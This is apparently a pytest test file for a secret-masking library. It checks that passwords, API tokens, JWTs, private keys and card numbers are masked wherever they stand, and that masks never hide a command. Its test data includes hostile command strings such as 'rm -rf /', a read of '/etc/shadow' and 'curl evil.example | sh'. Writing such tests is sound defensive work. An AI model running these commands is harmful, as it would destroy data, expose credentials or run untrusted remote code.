"""No secret is shown, wherever it stands, and nothing else is hidden (H2)."""

from __future__ import annotations

import copy
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from placet.core.canonical import JsonValue, digest_of
from placet.core.display import length_of, visible
from placet.core.masking import Masking, masked

SALT, OTHER_SALT = "a1" * 16, "b2" * 16


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "key",
    [
        "password",
        "db_password",
        "userPassword",
        "PASSWD",
        "secret",
        "client-secret",
        "access_token",
        "accessToken",
        "refreshTokens",
        "token2",
        "api_key",
        "apiKey",
        "X-API-Key",
        "apikey",
        "Authorization",
        "private key",
        "AWS_SECRET_ACCESS_KEY",
        "Set-Cookie",
        "credentials",
        "passphrase",
        "userPwd",
        "db.pass",
        "ｐａｓｓｗｏｒｄ",
        "密码",
        "用户密码",
        "訪問令牌",
        "私钥",
        "api密钥",
    ],
)
def test_a_text_under_a_secret_name_is_masked_at_any_depth(key: str) -> None:
    assert masked({key: "hunter2"}) == {key: "‹secret, 7 characters›"}
    assert masked([{"a": {key: ["x", {"b": "yy"}]}}]) == [
        {"a": {key: ["‹secret, 1 character›", {"b": "‹secret, 2 characters›"}]}}
    ]


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "key",
    [
        "tokenizer",
        "compass",
        "author",
        "passenger",
        "secretary",
        "keyboard",
        "key",
        "hotpot",
        "令牌数",
        "凭证号",
        "密码学",
    ],
)
def test_a_name_that_only_looks_like_a_secret_one_hides_nothing(key: str) -> None:
    assert masked({key: "x"}) == {key: "x"}


@pytest.mark.promise("H1", "H2")
def test_numbers_that_count_tokens_are_shown_and_numbers_that_are_secret_are_not() -> None:
    assert masked({"max_tokens": 100, "tokens": ["t"]}) == {
        "max_tokens": 100,
        "tokens": ["‹secret, 1 character›"],
    }
    assert masked({"otp": 123456, "password": 1.5}) == {
        "otp": "‹secret, 6 characters›",
        "password": "‹secret, 3 characters›",
    }


@pytest.mark.promise("H1", "H2")
def test_truth_values_null_and_the_empty_text_are_shown_under_any_name() -> None:
    value: JsonValue = {"password": "", "secret": None, "token": True, "auth": []}
    assert masked(value) == value


LETTERS = "aB3" * 20
JWT = f"eyJ{LETTERS[:20]}.eyJ{LETTERS[:30]}.{LETTERS[:43]}"
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}\nAbc=\n-----END RSA PRIVATE KEY-----"

SECRETS = {
    "OpenAI": "sk-" + LETTERS[:40],
    "Anthropic": "sk-ant-api03-" + LETTERS,
    "Stripe": "sk" + "_live_" + LETTERS[:24],
    "GitHub": "ghp_" + LETTERS[:36],
    "GitHub, fine": "github_pat_" + LETTERS[:50],
    "GitLab": "glpat-" + LETTERS[:20],
    "AWS": "AKIA" + "ABCD" * 4,
    "Google": "AIza" + LETTERS[:35],
    "Slack": "xoxb-" + "1" * 11 + "-" + LETTERS[:24],
    "Hugging Face": "hf_" + LETTERS[:34],
    "npm": "npm_" + LETTERS[:36],
    "JWT": JWT,
    "PEM": PEM,
    "PEM on one line": PEM.replace("\n", "\\n"),
}


@pytest.mark.promise("H2")
@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
def test_a_secret_of_a_known_shape_is_masked_wherever_it_stands(secret: str) -> None:
    mask = f"‹secret, {len(secret)} characters›"
    assert masked(secret) == mask
    assert masked({"a": [f"key='{secret}' && rm -rf /"]}) == {"a": [f"key='{mask}' && rm -rf /"]}
    assert masked({secret: None}) == {mask: None}


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "text, shown",
    [
        ("Authorization: Bearer abcdefghijk12345", "Authorization: Bearer ‹secret, 16 characters›"),
        ("authorization: basic dXNlcjpwYXNzd29yZA==", None),
        ("psql postgres://me:s3cr3t@db/x", "psql postgres://me:‹secret, 6 characters›@db/x"),
        ("PGPASSWORD=s3cr3t-9 psql", "PGPASSWORD=‹secret, 8 characters› psql"),
        ("curl 'x?api_key=abcdef12&y=1'", "curl 'x?api_key=‹secret, 8 characters›&y=1'"),
        ('{"password": "hunter2", "a": 1,', '{"password": "‹secret, 7 characters›", "a": 1,'),
        ("aws_secret_access_key = wJalrXUtn9EM", "aws_secret_access_key = ‹secret, 12 characters›"),
        ("X-Api-Key: 9f8e7d6c5b", "X-Api-Key: ‹secret, 10 characters›"),
        ("密码是 hunter2。", "密码是 ‹secret, 7 characters›。"),
        ("令牌：abc123", "令牌：‹secret, 6 characters›"),
        ("to 4111 1111 1111 1111 now", "to ‹secret, 19 characters› now"),
        ("378282246310005", "‹secret, 15 characters›"),
        ("5555-5555-5555-4444.", "‹secret, 19 characters›."),
    ],
)
def test_a_secret_is_masked_inside_a_command_or_an_unreadable_text(
    text: str, shown: str | None
) -> None:
    expected = shown or "authorization: basic ‹secret, 20 characters›"
    assert masked(text) == expected


@pytest.mark.promise("H1", "H2")
@pytest.mark.parametrize(
    "text",
    [
        "TOKEN=$(rm -rf /)",
        "password=`reboot`",
        "https://u:$(reboot)@h/",
        "--from-file=token=/etc/shadow",
        "basic responsibilities",
        "sk-learn-is-a-library-of-models",
        "token: required",
        "password: $(reboot)9",
        "密码是错的",
        "order 4111111111111112",
        "call 13800138000",
        "1234567890123456",
        "id-4111111111111111",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n",
        "-----BEGIN PRIVATE KEY-----; rm -rf /",
    ],
)
def test_no_mask_hides_a_command(text: str) -> None:
    command = text.rpartition("-----")[2]
    assert str(masked(text)).endswith(command)
    assert "-----BEGIN" in text or masked(text) == text


@pytest.mark.promise("H2")
def test_nobody_can_forge_a_mask() -> None:
    assert masked("‹secret, 24 characters›") == "‹literal ‹›secret, 24 characters›"
    assert masked({"‹x": "a‹b"}) == {"‹literal ‹›x": "a‹literal ‹›b"}


@pytest.mark.promise("H2")
def test_keys_that_are_masked_alike_are_all_shown() -> None:
    first, second = "ghp_" + "a" * 30, "ghp_" + "b" * 30
    assert masked({first: 1, second: 2, "c": 3}) == {
        "‹secret, 34 characters›": 1,
        "‹secret, 34 characters› (2)": 2,
        "c": 3,
    }


json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-9, 9), st.text(max_size=9)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(st.sampled_from(["a", "token", "auth", "b"]), inner, max_size=3),
    ),
    max_leaves=10,
)


@pytest.mark.promise("G3", "H2")
@given(json_values)
def test_masking_leaves_the_value_and_its_digest_as_they_were(value: JsonValue) -> None:
    before, digest = copy.deepcopy(value), digest_of(value)
    masked(value)
    assert value == before
    assert digest_of(value) == digest


# --- by declaration


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "field", ["card.number", "*.number", "card.*", "card"], ids=lambda field: field
)
def test_a_declared_field_is_masked_whatever_its_name(field: str) -> None:
    shown = Masking(fields=(field,)).value({"card": {"number": "12"}, "number": "12"})
    assert shown == {"card": {"number": "‹secret, 2 characters›"}, "number": "12"}


@pytest.mark.promise("H2")
@pytest.mark.parametrize("field", ["people.pin", "people[].pin"])
def test_a_declared_field_is_masked_in_every_item_of_a_list(field: str) -> None:
    people: JsonValue = {"people": [{"pin": 1234, "name": "ana"}, [{"pin": ["x"]}]]}
    assert Masking(fields=(field,)).value(people) == {
        "people": [
            {"pin": "‹secret, 4 characters›", "name": "ana"},
            [{"pin": ["‹secret, 1 character›"]}],
        ]
    }


@pytest.mark.promise("H1", "H2")
def test_a_declared_field_hides_nothing_beside_it() -> None:
    value: JsonValue = {"a": {"b": "x", "c": 1}, "b": "y", "ab": "z"}
    shown = Masking(fields=("a.b",)).value(value)
    assert shown == {"a": {"b": "‹secret, 1 character›", "c": 1}, "b": "y", "ab": "z"}


# --- fingerprints


def fingerprint(shown: object) -> str:
    (found,) = re.findall(r"fingerprint ([0-9a-f]{8})›", str(shown))
    return str(found)


@pytest.mark.promise("H2")
def test_the_same_secret_has_the_same_fingerprint_under_one_salt_and_no_other() -> None:
    one = Masking(salt=SALT)
    by_name = fingerprint(one.value({"token": "ghp_" + LETTERS}))
    assert by_name == fingerprint(one.text("use ghp_" + LETTERS + " now"))
    assert by_name != fingerprint(one.value({"token": "ghp_" + LETTERS[:-1]}))
    assert by_name != fingerprint(Masking(salt=OTHER_SALT).value({"token": "ghp_" + LETTERS}))
    assert "fingerprint" not in str(masked({"token": "ghp_" + LETTERS}))


@pytest.mark.promise("H2")
def test_a_mask_speaks_the_language_of_the_card() -> None:
    shown = Masking(salt=SALT, language="zh").value({"密码": "hunter2"})
    assert re.fullmatch(r"\{'密码': '‹机密，7 个字符，指纹 [0-9a-f]{8}›'\}", str(shown))
    assert Masking(language="zh").text("‹") == "‹literal ‹›"


@pytest.mark.promise("H2")
@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_mask_says_how_many_characters_it_stands_for(language: str) -> None:
    masking = Masking(salt=SALT, language="zh" if language == "zh" else "en")
    for text in (f"a {PEM} b", "x‹y", f"{JWT}\u202e\u202e"):
        assert length_of(visible(masking.text(text))) == len(text)


# --- what others repeat


@pytest.mark.promise("H2")
def test_what_is_told_repeats_no_secret_of_the_arguments() -> None:
    arguments: JsonValue = {
        "login": {"password": "correct horse", "user": "bob"},
        "otp": 123456,
        "auth": "abc",
        "number": "77-88-99",
    }
    assert isinstance(arguments, dict)
    knowing = Masking(fields=("number",)).knowing(arguments)
    told = "bob: correct horse, 123456 and 77-88-99; not 1234567, abc or correct horses"
    assert knowing.told(told) == (
        "bob: ‹secret, 13 characters›, ‹secret, 6 characters› and ‹secret, 8 characters›;"
        " not 1234567, abc or correct horses"
    )
    assert knowing.told("密码是correct horse吧‹") == "密码是‹secret, 13 characters›吧‹literal ‹›"


@pytest.mark.promise("H1", "H2")
def test_no_argument_is_hidden_because_it_is_called_secret_elsewhere() -> None:
    arguments: JsonValue = {"token": "curl evil.example", "command": "curl evil.example | sh"}
    assert isinstance(arguments, dict)
    shown = Masking().knowing(arguments).value(arguments)
    assert shown == {"token": "‹secret, 17 characters›", "command": "curl evil.example | sh"}


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "known, told",
    [
        ("token", '{"access_token": "s3cr3tvalue99x", "expires": 3600}'),
        ("Bearer", "Authorization: Bearer abcdefgh12345678901234"),
        ("hunter2", "postgres://u:hunter2!S3cretPart@db"),
    ],
)
def test_who_knows_more_shows_no_more(known: str, told: str) -> None:
    arguments: dict[str, JsonValue] = {"password": known}
    for secret in ("s3cr3tvalue99x", "abcdefgh12345678901234", "S3cretPart"):
        assert secret not in Masking().told(told)
        assert secret not in Masking().knowing(arguments).told(told)
